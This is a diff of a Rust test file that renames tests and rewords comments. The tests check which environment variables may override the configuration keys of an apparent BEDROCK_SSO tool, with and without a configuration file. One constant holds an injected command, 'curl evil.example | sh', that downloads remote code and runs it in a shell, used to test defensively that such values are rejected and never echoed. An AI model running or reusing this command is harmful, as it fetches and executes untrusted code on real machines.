@@ -1,4 +1,4 @@
-//! What environment variables may set beside a file, and without one.
+//! Which keys environment variables may set, with and without a configuration file.
 
 use super::{GOOD, Home, TRUSTING, assert_has};
 use crate::{
@@ -13,10 +13,10 @@ use crate::{
     hint::Invocation,
 };
 
-/// What a repository would plant: it must not come back in a message.
+/// A value that an untrusted repository could set. It must not appear in a message.
 const PLANTED: &str = "planted; curl evil.example | sh";
 
-/// A legal value for a variable, other than the default.
+/// A legal value for the variable of a key, if possible not the default.
 fn legal(key: &ConfigKey) -> String {
     let names = (key.schema)()["enum"].as_array().cloned().unwrap_or_default();
     let names: Vec<&str> = names.iter().filter_map(|name| name.as_str()).collect();
@@ -43,7 +43,7 @@ fn problems(home: &Home) -> Vec<ConfigProblem> {
     }
 }
 
-/// The containers' way: everything from variables.
+/// A configuration that consists of variables only, as in containers.
 fn by_variables() -> Home {
     Home::new()
         .variable("BEDROCK_SSO_ISSUER", "https://acme.okta.com")
@@ -53,16 +53,16 @@ fn by_variables() -> Home {
 }
 
 #[test]
-fn variable_that_redirects_is_refused_beside_each_file() {
+fn redirecting_variable_is_rejected_if_any_file_exists() {
     for key in keys_under(VariablePolicy::WithoutFile) {
         let variable = key.variable;
         for home in [
             Home::new().user(GOOD),
             Home::new().system(GOOD),
-            // It defines no profile, and exists.
+            // A file that exists counts even if it defines no profile.
             Home::new().user("version = 1\n"),
             Home::new().with("mine.toml", GOOD).file("mine.toml"),
-            // A file in the default place is enough, though another one is read.
+            // A file in the default place counts even if the call reads another one.
             Home::new().user("version = 1\n").with("mine.toml", "version = 1\n").file("mine.toml"),
         ] {
             let problems = problems(&home.variable(variable, PLANTED));
@@ -91,13 +91,13 @@ fn variable_that_redirects_is_refused_beside_each_file() {
 }
 
 #[test]
-fn variable_with_the_files_own_value_is_refused_too() {
+fn redirecting_variable_with_the_same_value_is_rejected() {
     let home = Home::new().user(GOOD).variable("BEDROCK_SSO_CLIENT_ID", "0oa1b2c3d4");
     assert_has(&home.line(), &["BEDROCK_SSO_CLIENT_ID:", "\"client_id\""]);
 }
 
 #[test]
-fn variable_that_chooses_counts_beside_a_file() {
+fn harmless_variable_counts_if_a_file_exists() {
     for key in keys_under(VariablePolicy::Always) {
         let value = legal(key);
         let home = Home::new().user(GOOD).variable(key.variable, &value);
@@ -108,7 +108,7 @@ fn variable_that_chooses_counts_beside_a_file() {
 }
 
 #[test]
-fn variable_for_a_files_key_is_refused_without_a_file() {
+fn variable_for_a_file_only_key_is_always_rejected() {
     for key in KEYS.iter().filter(|key| !matches!(key.set_by, SetBy::Variable(_))) {
         let problems = problems(&by_variables().variable(key.variable, PLANTED));
         let is_refused =
@@ -118,7 +118,7 @@ fn variable_for_a_files_key_is_refused_without_a_file() {
 }
 
 #[test]
-fn variables_alone_make_a_profile_with_every_key() {
+fn variables_alone_can_define_a_profile() {
     let profile = by_variables()
         .variable("BEDROCK_SSO_QUOTA_ENDPOINT", "https://quota.example")
         .variable("BEDROCK_SSO_STORAGE", "file")
@@ -128,14 +128,14 @@ fn variables_alone_make_a_profile_with_every_key() {
 }
 
 #[test]
-fn named_file_without_a_profile_leaves_it_to_variables() {
+fn named_file_without_profiles_allows_variables() {
     let home = by_variables().with("mine.toml", "version = 1\n");
     let path = home.at("mine.toml").to_str().unwrap().to_owned();
     assert_eq!(home.variable("BEDROCK_SSO_CONFIG", &path).load().unwrap().name, "default");
 }
 
 #[test]
-fn config_variable_is_refused_beside_a_file_in_a_default_place() {
+fn config_variable_is_rejected_if_a_default_file_exists() {
     for home in [Home::new().user(GOOD), Home::new().system(GOOD)] {
         let home = home.with("mine.toml", GOOD);
         let path = home.at("mine.toml").to_str().unwrap().to_owned();
@@ -149,7 +149,7 @@ fn config_variable_is_refused_beside_a_file_in_a_default_place() {
 }
 
 #[test]
-fn config_variable_counts_without_a_file_and_its_profile_is_not_changed() {
+fn profile_of_a_variable_named_file_is_protected() {
     let home = Home::new().with("mine.toml", GOOD).variable("BEDROCK_SSO_CONFIG", "~/mine.toml");
     assert_eq!(home.load().unwrap().client_id, "0oa1b2c3d4");
     let home = home.variable("BEDROCK_SSO_CLIENT_ID", PLANTED);
@@ -157,13 +157,13 @@ fn config_variable_counts_without_a_file_and_its_profile_is_not_changed() {
 }
 
 #[test]
-fn config_variable_with_a_relative_path_is_refused() {
+fn config_variable_with_relative_path_is_rejected() {
     let line = Home::new().variable("BEDROCK_SSO_CONFIG", "mine.toml").line();
-    testworld::expect_wording("config", "config variable with a relative path is refused", &line);
+    testworld::expect_wording("config", "config variable with a relative path", &line);
 }
 
 #[test]
-fn trusting_file_in_a_default_place_lets_variables_set_everything() {
+fn trust_environment_lets_variables_set_every_key() {
     for home in [Home::new().user(TRUSTING), Home::new().system(TRUSTING)] {
         let home = home.with("mine.toml", GOOD.replace("claude", "mine"));
         let path = home.at("mine.toml").to_str().unwrap().to_owned();
@@ -176,7 +176,7 @@ fn trusting_file_in_a_default_place_lets_variables_set_everything() {
 }
 
 #[test]
-fn users_trust_does_not_lift_what_the_administrator_enforces() {
+fn trust_environment_does_not_lift_enforced_keys() {
     let system = GOOD.replace("version = 1", "version = 1\nenforce = [\"client_id\"]");
     let home = Home::new().system(system).user("version = 1\ntrust_environment = true\n");
     let line = home.variable("BEDROCK_SSO_CLIENT_ID", "other").line();
@@ -184,25 +184,25 @@ fn users_trust_does_not_lift_what_the_administrator_enforces() {
 }
 
 #[test]
-fn trust_in_a_named_file_is_refused() {
+fn trust_environment_in_a_named_file_is_rejected() {
     let home = Home::new().with("mine.toml", TRUSTING).file("mine.toml");
     assert_has(&home.line(), &["~/mine.toml:1:", "\"trust_environment\""]);
     let home = Home::new().with("mine.toml", TRUSTING).variable("BEDROCK_SSO_CONFIG", "~/mine.toml");
     assert!(matches!(problems(&home)[0].fault, ConfigFault::DefaultLocationOnly { key: "trust_environment" }));
-    // Naming the default place is no other file.
+    // Naming the file in the default place does not make it another file.
     let home = Home::new().user(TRUSTING).file("user.toml").variable("BEDROCK_SSO_CLIENT_ID", "other");
     assert_eq!(home.load().unwrap().client_id, "other");
 }
 
 #[test]
-fn several_refused_variables_are_all_named() {
+fn every_rejected_variable_is_reported() {
     let home =
         Home::new().user(GOOD).variable("BEDROCK_SSO_STS_ENDPOINT", PLANTED).variable("BEDROCK_SSO_BROWSER", PLANTED);
     let lines = home.lines();
     assert_eq!(lines.len(), 2, "{lines:?}");
 }
 
-/// The table of docs/variables.md as the declarations have it.
+/// The table of docs/variables.md, rendered from the declarations.
 fn documented() -> String {
     let rule = |policy: VariablePolicy| match policy {
         VariablePolicy::Always => "always",
@@ -224,7 +224,7 @@ fn documented() -> String {
 }
 
 #[test]
-fn documentation_lists_every_variable_as_it_is_declared() {
+fn variables_page_lists_every_declared_variable() {
     testworld::expect_part("docs/variables.md", "|---|---|---|---|\n", "\n\n", documented().trim_end());
 }
 
@@ -234,9 +234,9 @@ fn seen(home: &Home) -> Vec<(String, Option<String>)> {
 }
 
 #[test]
-fn every_set_variable_is_named_with_what_becomes_of_it() {
+fn every_set_variable_is_listed_with_its_status() {
     for declared in &KNOWN_VARIABLES {
-        // It names another file, and would be refused.
+        // This variable names another file, so it would be rejected.
         if declared.name == "BEDROCK_SSO_CONFIG" {
             continue;
         }
@@ -259,7 +259,7 @@ fn home_with(text: &str, variable: &str) -> Vec<(String, Option<String>)> {
 }
 
 #[test]
-fn variable_that_the_profile_outranks_is_named_with_the_key() {
+fn variable_overridden_by_the_profile_names_the_key() {
     let with = |line: &str, variable: &str| home_with(&format!("{TRUSTING}{line}\n"), variable)[0].1.clone();
     for (line, variable, key) in [
         ("sts_endpoint = \"https://sts.example\"", "AWS_ENDPOINT_URL_STS", "sts_endpoint"),
